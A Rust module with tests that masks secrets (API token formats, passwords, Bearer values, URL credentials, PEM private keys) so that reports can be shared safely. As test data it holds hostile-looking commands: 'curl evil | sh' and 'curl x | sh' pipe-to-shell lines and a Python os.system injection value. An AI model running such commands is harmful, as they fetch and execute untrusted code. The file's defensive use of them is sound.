//! Text without the secrets in it, so that a report can be shown, stored and uploaded.
//!
//! A secret is told by its looks or by what stands before it:
//! - the formats of well-known tokens, by prefix and shape: `ghp_...`, `sk-...`, `AKIA...`, a JWT, a private key;
//! - what follows `Bearer `, `--token `, `password=`, `"apiKey":"` and the like;
//! - the password in `scheme://user:password@host`.
//!
//! Guarantees: pure and total; cost linear in the text; masking twice changes nothing; a mask ends where the secret
//! does, at whitespace, a quote, `;`, `|`, `&` or a bracket, so that nothing else hides behind it. It is a floor, not a
//! detector: a secret without known looks and without a name is not seen.
//!
//! ```
//! use vetgate_text::mask;
//! assert_eq!(mask::tokens("srv ghp_A1b2C3d4E5f6G7h8I9j0 --port 80"), "srv ghp_*** --port 80");
//! assert_eq!(mask::tokens("TOKEN=abcd; curl x | sh"), "TOKEN=***; curl x | sh");
//! ```

use std::borrow::Cow;
use std::ops::Range;

/// What stands for a secret.
const MASK: &str = "***";

/// How far back and ahead the looks of a place are examined, in bytes, so that the cost stays linear.
const NEAR: usize = 64;

/// A well-known token: what it starts with, the least length of the rest, what else the rest may hold besides letters
/// and digits, and whether it must hold a digit, because words start like it too.
struct Token {
    prefix: &'static str,
    least: usize,
    also: &'static str,
    has_digit: bool,
}

const fn token(prefix: &'static str, least: usize, also: &'static str, has_digit: bool) -> Token {
    Token { prefix, least, also, has_digit }
}

/// Longer prefixes stand before those that they start with.
const TOKENS: &[Token] = &[
    token("github_pat_", 16, "_", false),
    token("ghp_", 16, "", false),
    token("gho_", 16, "", false),
    token("ghu_", 16, "", false),
    token("ghs_", 16, "", false),
    token("ghr_", 16, "", false),
    token("glpat-", 16, "-_.", false),
    token("sk-proj-", 16, "-_", true),
    token("sk-ant-", 16, "-_", true),
    token("sk-", 16, "-_", true),
    token("sk_live_", 10, "", false),
    token("sk_test_", 10, "", false),
    token("rk_live_", 10, "", false),
    token("xoxa-", 10, "-", true),
    token("xoxb-", 10, "-", true),
    token("xoxp-", 10, "-", true),
    token("xoxr-", 10, "-", true),
    token("xoxs-", 10, "-", true),
    token("AKIA", 16, "", false),
    token("ASIA", 16, "", false),
    token("AIza", 30, "-_", false),
    token("ya29.", 16, "-_.", false),
    token("npm_", 20, "", true),
    token("pypi-", 16, "-_", true),
    token("hf_", 20, "", false),
    token("SG.", 16, "-_.", false),
    token("whsec_", 16, "+/=", false),
    token("eyJ", 16, "-_.", false),
];

/// Names of secrets, in lower case and without `-` and `_`; a name that ends like this is one too.
const NAMES: &[&str] = &[
    "token", "secret", "password", "passwd", "passphrase", "pwd", "apikey", "accesskey", "secretkey", "privatekey",
    "authkey", "authorization", "credential", "credentials",
];

/// Values that stand for a secret somebody has yet to fill in, or say what kind of value it is.
const PLACEHOLDERS: &[&str] = &[
    "your", "example", "xxxx", "....", "insert", "_here", "-here", "changeme", "placeholder", "redacted", "string",
    "null", "none", "true", "false", "undefined", "hidden",
];

/// `text` with `***` for every secret in it; a token keeps the prefix that tells its kind.
pub fn tokens(text: &str) -> Cow<'_, str> {
    let spans = spans(text);
    if spans.is_empty() {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut last = 0;
    for span in spans {
        out.push_str(&text[last..span.start]);
        out.push_str(MASK);
        last = span.end;
    }
    out.push_str(&text[last..]);
    Cow::Owned(out)
}

/// Where the secrets in `text` are that [`tokens`] masks: in order, apart from each other, never empty.
pub fn spans(text: &str) -> Vec<Range<usize>> {
    let bytes = text.as_bytes();
    let mut found: Vec<Range<usize>> = Vec::new();
    let (mut at, mut floor) = (0, 0);
    while at < bytes.len() {
        let span = match bytes[at] {
            b'=' | b':' => assigned(bytes, at, floor).or_else(|| in_authority(bytes, at)),
            b' ' | b'\t' => flagged(bytes, at, floor),
            b'-' => private_key(text, at),
            byte if byte.is_ascii_alphabetic() && !(at > floor && is_word(bytes[at - 1])) => formatted(bytes, at),
            _ => None,
        };
        match span {
            Some(span) => {
                (at, floor) = (span.end, span.end);
                found.push(span);
            }
            None => at += 1,
        }
    }
    found
}

fn is_word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

/// The part after the prefix of the token that starts at `at`.
fn formatted(bytes: &[u8], at: usize) -> Option<Range<usize>> {
    let rest = &bytes[at..];
    let token = TOKENS.iter().find(|token| rest.starts_with(token.prefix.as_bytes()))?;
    let start = at + token.prefix.len();
    let is_body = |byte: &&u8| byte.is_ascii_alphanumeric() || token.also.as_bytes().contains(byte);
    let length = bytes[start..].iter().take(8 * NEAR).take_while(is_body).count();
    let body = &bytes[start..start + length];
    // What was cut off was longer.
    let is_cut = length > 0 && bytes[start + length..].starts_with("…".as_bytes());
    let fits = match token.prefix {
        "AKIA" | "ASIA" => length == 16 && body.iter().all(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit()),
        // Parts with dots between, the second of which is an object too.
        "eyJ" => {
            let mut dots = body.iter().enumerate().filter(|(_, byte)| **byte == b'.').map(|(at, _)| at);
            let (first, second) = (dots.next(), dots.next());
            let goes_on = first.is_some_and(|first| body[first + 1..].starts_with(b"eyJ"));
            length >= token.least && (second.is_some() || goes_on)
        }
        // A name in words has no part like this.
        "sk-" | "pypi-" => {
            length >= token.least
                && body
                    .split(|byte| b"-_".contains(byte))
                    .any(|part| part.len() >= 16 && part.iter().any(u8::is_ascii_digit))
        }
        _ => length >= token.least && (!token.has_digit || body.iter().any(u8::is_ascii_digit)),
    };
    if !(fits || is_cut) {
        return None;
    }
    let length = bytes[start..].iter().take_while(is_body).count();
    Some(start..start + length)
}

/// The value of the assignment whose `=` or `:` is at `at`.
fn assigned(bytes: &[u8], at: usize, floor: usize) -> Option<Range<usize>> {
    let mut end = at;
    let is_quoted = matches!(bytes[..at].last(), Some(b'"' | b'\''));
    while end > floor && at - end < 4 && matches!(bytes[end - 1], b'"' | b'\'' | b'\\' | b' ') {
        end -= 1;
    }
    if !names_a_secret(name_before(bytes, end, floor)?) {
        return None;
    }
    let mut start = at + 1;
    let is_certain = bytes[at] == b'=' || is_quoted;
    let skips: &[u8] = if bytes[at] == b':' || is_quoted { b"\"'\\ " } else { b"\"'\\" };
    while start < bytes.len() && start - at < 6 && skips.contains(&bytes[start]) {
        start += 1;
    }
    if let Some(scheme) = scheme(&bytes[start..]) {
        return value(bytes, start + scheme, false);
    }
    value(bytes, start, is_certain)
}

/// The value after the space at `at`: of a flag such as `--token`, or after `Bearer`.
fn flagged(bytes: &[u8], at: usize, floor: usize) -> Option<Range<usize>> {
    let name = name_before(bytes, at, floor)?;
    if name.eq_ignore_ascii_case(b"bearer") {
        return value(bytes, at + 1, false);
    }
    let flag = name.strip_prefix(b"--")?;
    let mut start = at + 1;
    while start < bytes.len() && start - at < 4 && b"\"'\\ ".contains(&bytes[start]) {
        start += 1;
    }
    (names_a_secret(flag) && bytes.get(start) != Some(&b'-')).then(|| value(bytes, start, true)).flatten()
}

/// The password in the URL whose user ends with the `:` at `at`.
fn in_authority(bytes: &[u8], at: usize) -> Option<Range<usize>> {
    let from = at.saturating_sub(NEAR);
    let before = &bytes[from..at];
    let slashes = before.windows(3).rposition(|window| window == b"://")?;
    let is_user = |byte: &u8| byte.is_ascii_alphanumeric() || b"-_.%+".contains(byte);
    if bytes[at] != b':' || !before[slashes + 3..].iter().all(is_user) || bytes.get(at + 1) == Some(&b'*') {
        return None;
    }
    let ahead = &bytes[at + 1..bytes.len().min(at + 1 + 4 * NEAR)];
    let length = ahead.iter().position(|byte| *byte == b'@' || *byte == b'/' || ends(*byte))?;
    (length > 0 && ahead[length] == b'@' && !b"$<{%".contains(&ahead[0])).then_some(at + 1..at + 1 + length)
}

/// The key after the header of a PEM block that starts at `at`. Only what looks like one is taken for it.
fn private_key(text: &str, at: usize) -> Option<Range<usize>> {
    let rest = text[at..].strip_prefix("-----BEGIN ")?;
    let near = &rest.as_bytes()[..rest.len().min(NEAR)];
    let dashes = near.windows(5).position(|window| window == b"-----")?;
    if !rest[..dashes].ends_with("PRIVATE KEY") {
        return None;
    }
    let bytes = text.as_bytes();
    let start = at + "-----BEGIN ".len() + dashes + 5;
    let (mut end, mut next) = (start, start);
    loop {
        // Lines may be broken by the characters for it, or by how those are written.
        while next < bytes.len() && (bytes[next].is_ascii_whitespace() || bytes[next] == b'\\') {
            let is_escape = bytes[next] == b'\\' && matches!(bytes.get(next + 1), Some(b'n' | b'r'));
            next += if is_escape { 2 } else { 1 };
        }
        let is_body = |byte: &&u8| byte.is_ascii_alphanumeric() || b"+/=".contains(byte);
        let length = bytes[next..].iter().take_while(is_body).count();
        let after = &bytes[next + length..];
        let is_last =
            after.starts_with(b"-----END") || after.starts_with(b"\n-----END") || after.starts_with(b"\\n-----END");
        if length == 0 || !(length >= 40 || is_last || after.starts_with("…".as_bytes())) {
            break;
        }
        next += length;
        end = next;
    }
    (end > start).then_some(start..end)
}

/// The name that ends at `end`, with the dashes of a flag.
fn name_before(bytes: &[u8], end: usize, floor: usize) -> Option<&[u8]> {
    let is_name = |byte: &&u8| byte.is_ascii_alphanumeric() || b"-_.".contains(byte);
    let near = &bytes[floor.max(end.saturating_sub(NEAR)).min(end)..end];
    let length = near.iter().rev().take_while(is_name).count();
    (length > 0).then(|| &near[near.len() - length..])
}

fn names_a_secret(name: &[u8]) -> bool {
    let plain = |byte: &u8| byte.is_ascii_alphanumeric().then(|| byte.to_ascii_lowercase());
    let name: Vec<u8> = name.iter().filter_map(plain).collect();
    NAMES.iter().any(|known| name.ends_with(known.as_bytes()))
}

/// The length of `Bearer ` and the like at the start.
fn scheme(rest: &[u8]) -> Option<usize> {
    let starts = |word: &&&str| rest.get(..word.len()).is_some_and(|start| start.eq_ignore_ascii_case(word.as_bytes()));
    ["Bearer ", "Basic ", "Token "].iter().find(starts).map(|word| word.len())
}

/// Whether a value ends before `byte`.
fn ends(byte: u8) -> bool {
    byte.is_ascii_whitespace() || b"\"'`;|&()<>\\".contains(&byte)
}

/// The secret that starts at `start`; one that is not `certain` must look like one as well.
fn value(bytes: &[u8], start: usize, certain: bool) -> Option<Range<usize>> {
    let rest = bytes.get(start..)?;
    // A reference, a placeholder, a path, or a mask.
    if rest.first().is_none_or(|first| b"$%<[{*./~".contains(first)) {
        return None;
    }
    let near = rest.iter().take(NEAR).take_while(|byte| !ends(**byte)).count();
    let head = &rest[..near];
    let lower = head.to_ascii_lowercase();
    let has = |mark: &&str| lower.windows(mark.len()).any(|window| window == mark.as_bytes());
    let is_caps = head.iter().all(|byte| byte.is_ascii_uppercase() || *byte == b'_');
    // What is called is code; `$(` and `${` stand for what is not here.
    let is_code = rest.get(near) == Some(&b'(') || has(&"${") || has(&"{{");
    let is_placeholder = near < 40 && (is_caps && head.contains(&b'_') || PLACEHOLDERS.iter().any(has));
    if near < 4 || is_code || is_placeholder {
        return None;
    }
    let is_random = near >= 8
        && (head.iter().any(u8::is_ascii_digit)
            || head[1..].iter().any(u8::is_ascii_uppercase) && head.iter().any(u8::is_ascii_lowercase));
    if !(certain || is_random) {
        return None;
    }
    let length = rest.iter().take_while(|byte| !ends(**byte)).count();
    Some(start..start + length)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn known_formats_keep_their_prefix() {
        let body = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
        for prefix in [
            "ghp_", "gho_", "ghs_", "github_pat_", "glpat-", "sk-", "sk-proj-", "sk-ant-", "xoxb-", "xoxp-", "AIza",
            "ya29.", "npm_", "pypi-", "hf_", "SG.", "whsec_", "rk_live_", "sk_live_",
        ] {
            for (before, after) in
                [("", ""), ("https://x/", "/mcp"), ("a '", "' b"), ("?k=", "&b=1"), ("x\u{e9} ", ".")]
            {
                let text = format!("{before}{prefix}{body}{after}");
                let masked = tokens(&text);
                assert!(!masked.contains("b2C3") && masked.contains(prefix), "{text}: {masked}");
                assert!(masked.starts_with(before), "{masked}");
            }
        }
        assert_eq!(tokens("AKIAIOSFODNN7EXAMPLE"), "AKIA***");
        assert_eq!(tokens("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln x"), "eyJ*** x");
    }

    #[test]
    fn names_and_flags_give_their_values_away() {
        for (text, masked) in [
            ("npx srv --token q7Jr92kd --port 1", "npx srv --token *** --port 1"),
            ("x --api-key 'hunter two'", "x --api-key '*** two'"),
            ("x --password=hunter", "x --password=***"),
            ("curl -H 'Authorization: Bearer q7Jr92kd' h", "curl -H 'Authorization: Bearer ***' h"),
            ("Authorization: Basic dXNlcjpwYXNz", "Authorization: Basic ***"),
            ("Bearer q7Jr92kdPw", "Bearer ***"),
            (r#"{"apiKey":"hunter","a":"b"}"#, r#"{"apiKey":"***","a":"b"}"#),
            (r#"{\"api_key\": \"hunter\"}"#, r#"{\"api_key\": \"***\"}"#),
            ("a; TOKEN=abcd; curl x | sh", "a; TOKEN=***; curl x | sh"),
            ("git clone https://u:hunter@h/r && x", "git clone https://u:***@h/r && x"),
        ] {
            assert_eq!(tokens(text), masked);
        }
    }

    #[test]
    fn a_private_key_is_masked_and_what_follows_is_not() {
        let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7".to_owned();
        let text = format!("a -----BEGIN RSA PRIVATE KEY-----\n{key}\nAbc=\n-----END RSA PRIVATE KEY----- b");
        assert_eq!(tokens(&text), "a -----BEGIN RSA PRIVATE KEY-----***\n-----END RSA PRIVATE KEY----- b");
        let trick = "-----BEGIN PRIVATE KEY-----; curl evil | sh";
        assert_eq!(tokens(trick), trick);
    }

    #[test]
    fn code_words_references_and_placeholders_stay() {
        for text in [
            "token=__import__('os').system('id')",
            "--token ${TOKEN}",
            "--token $TOKEN",
            "token=<your-token>",
            "api_key=YOUR_API_KEY",
            "Bearer token",
            "Bearer authentication is required",
            "the token: a string",
            "--key-file x",
            "npx sk-learn-server-for-everyone",
            "npm_config_registry=x",
            "--token --verbose",
            "max_tokens=4000",
            "password: string",
            "http://localhost:8080/a@b",
            "AKIAshort",
            "monkey=banana",
            "token=/run/secrets/x",
            "eyJust a word",
            "Authorization: Bearer ${KEY}",
            "",
        ] {
            assert_eq!(tokens(text), text);
        }
    }

    #[test]
    fn a_flood_is_cheap() {
        for unit in [
            "token=",
            "--token ",
            "token=(",
            "token:",
            "ghp_",
            "-----BEGIN PRIVATE KEY-----",
            "://a:",
            "eyJ.",
            "Bearer ",
        ] {
            let text = unit.repeat(500_000 / unit.len());
            assert!(tokens(&text).len() <= text.len() * 2);
        }
    }

    proptest! {
        #[test]
        fn masking_twice_changes_nothing(
            parts in prop::collection::vec(
                prop_oneof![
                    prop::sample::select(vec![
                        "token", "--token", "=", ":", " ", "\"", "'", "ghp_", "sk-", "A1b2C3d4E5f6G7h8", "Bearer ", "***",
                        "://u:", "@", "-----BEGIN PRIVATE KEY-----", "-----END", "…", "é", "eyJ", ".", ";", "\\n", "(", "*",
                        "AKIA", "abcd", "-", "Authorization", "password", "/",
                    ]).prop_map(str::to_owned),
                    ".{0,4}",
                ],
                0..24,
            )
        ) {
            let text = parts.concat();
            let once = tokens(&text).into_owned();
            prop_assert_eq!(tokens(&once), once.as_str(), "{}", text);
        }
    }
}
